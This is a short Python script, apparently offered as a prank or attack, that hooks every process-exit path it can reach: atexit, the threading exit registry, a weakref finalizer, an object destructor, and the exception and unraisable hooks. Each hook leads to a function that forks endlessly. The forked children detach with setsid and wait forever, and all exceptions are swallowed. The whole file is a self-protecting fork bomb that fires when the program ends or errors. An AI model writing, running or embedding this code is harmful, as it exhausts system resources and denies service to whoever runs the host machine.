# Whatever Python calls when a process ends: it never does, and starts more.
import atexit
import os
import sys
import threading
import weakref


def never():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                threading.Event().wait()
        except BaseException:
            pass


class Stays:
    def __del__(self):
        never()


atexit.register(never)
threading._register_atexit(never)
weakref.finalize(sys, never)
stays = Stays()
stays.itself = stays
sys.excepthook = sys.unraisablehook = lambda *args: never()
